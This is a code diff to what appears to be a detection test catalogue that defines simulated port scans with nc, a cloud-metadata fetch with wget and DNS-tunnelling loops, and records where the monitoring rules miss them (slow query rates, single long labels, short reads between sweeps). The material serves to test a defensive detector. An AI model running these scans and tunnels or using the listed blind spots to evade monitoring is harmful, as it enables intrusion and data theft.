@@ -109,12 +109,12 @@ UDP_STDIO = (
     "a UDP socket on stdio: the behaviour rule takes TCP connections only (the plain form is "
     "caught by its /dev/udp command line)"
 )
-NO_BYTES_RULE = "no rule counts the bytes sent per destination yet (issue 25)"
 NO_FLOOD_RATE = "no rule for the rate of a process flood that stays under the limit"
-BRIDGE_DNS = (
-    "queries to the sandbox's own resolver are not seen, and detect.dns_tunnel (the 40+ "
-    "character label) is never called"
+ONE_LONG_LABEL = (
+    "one query: the tunnel rule wants 20+ distinct names under one domain, and the 40+ "
+    "character label detector (detect.dns_tunnel) is never called"
 )
+SLOW_DRIP = "15 names, 2.5 a second: under the tunnel rule's 20 names and the volume rule's rate"
 SHORT_COMMAND = (
     "a command of a few milliseconds is caught only when the exec watcher reads its command "
     "line before it ends (files opened are not watched yet)"
@@ -123,13 +123,9 @@ FORK_RATE = (
     "the exec loop's fork rate, slowed by a busy machine, may stay under the 300-a-second "
     "surge the rule looks for"
 )
-BLOCKED_PENDING = (
-    "a blocked attempt is seen only when a sweep finds it pending (blocked attempts are not "
-    "counted where they are blocked yet)"
-)
 OPENED_FILES = (
-    "what a process opens is seen only if a sweep finds it with the file open; its command "
-    "line names nothing"
+    "a file held open is seen at a sweep; a read of a few milliseconds between two sweeps is "
+    "not, and its command line names nothing"
 )
 
 
@@ -202,7 +198,6 @@ REVERSE_SHELLS = [
 
 
 def _ex(name: str, script: str, **kw: object) -> Entry:
-    kw.setdefault("gap", NO_BYTES_RULE)
     return Entry(EXFIL, name, script, "high", measure_bytes=True, alone=True, **kw)  # type: ignore[arg-type]
 
 
@@ -222,7 +217,6 @@ EXFILTRATION = [
         data=True,
         shell="bash",
         needs=("bash",),
-        gap_in=("script",),  # plain and renamed: killed for the /dev/udp in bash's command line
     ),
     _ex(
         "slow-1mb-per-s",
@@ -268,7 +262,6 @@ SCANS = [
         "for i in $(seq 1 14); do @nc@ -w 1 192.168.77.$i 22 </dev/null; done 2>/dev/null",
         "high",
         window=12.0,
-        racy=BLOCKED_PENDING,
     ),
     Entry(
         SCAN,
@@ -276,7 +269,6 @@ SCANS = [
         "for p in $(seq 20 40); do @nc@ -w 1 @LAN@ $p </dev/null; done 2>/dev/null",
         "high",
         window=12.0,
-        racy=BLOCKED_PENDING,
     ),
     Entry(
         SCAN,
@@ -285,7 +277,6 @@ SCANS = [
         "high",
         encode=True,
         window=12.0,
-        racy=BLOCKED_PENDING,
     ),
     Entry(
         SCAN, "metadata-wget", "timeout 5 @wget@ -q -O - http://@MD@/latest/meta-data/", "critical"
@@ -313,7 +304,7 @@ DNS_TUNNELS = [
         "nslookup 3a7bd3e2360a3d29eea436fcfb7e44c735d117c42d1c1835420b6b99.t.coi-test",
         "warning",
         network="allowlist",
-        gap=BRIDGE_DNS,
+        gap=ONE_LONG_LABEL,
     ),
     Entry(
         DNS,
@@ -322,9 +313,7 @@ DNS_TUNNELS = [
         ">/dev/null 2>&1; i=$((i+1)); done",
         "warning",
         network="allowlist",
-        window=10.0,
-        racy=BRIDGE_DNS
-        + "; at times another rule catches it (DNS volume at a sweep, the exec rate)",
+        window=8.0,
     ),
     Entry(
         DNS,
@@ -333,8 +322,8 @@ DNS_TUNNELS = [
         ">/dev/null 2>&1; sleep 0.4; i=$((i+1)); done",
         "warning",
         network="allowlist",
-        window=10.0,
-        gap=BRIDGE_DNS,
+        window=8.0,
+        gap=SLOW_DRIP,
     ),
     Entry(
         DNS,
@@ -348,7 +337,7 @@ DNS_TUNNELS = [
         f"i=0; while [ $i -lt 30 ]; do nslookup $(head -c 15 /dev/urandom | {_HEX}).t.coi-test "
         "@DNS@ >/dev/null 2>&1; i=$((i+1)); done",
         "warning",
-        window=10.0,
+        window=8.0,
     ),
 ]
 
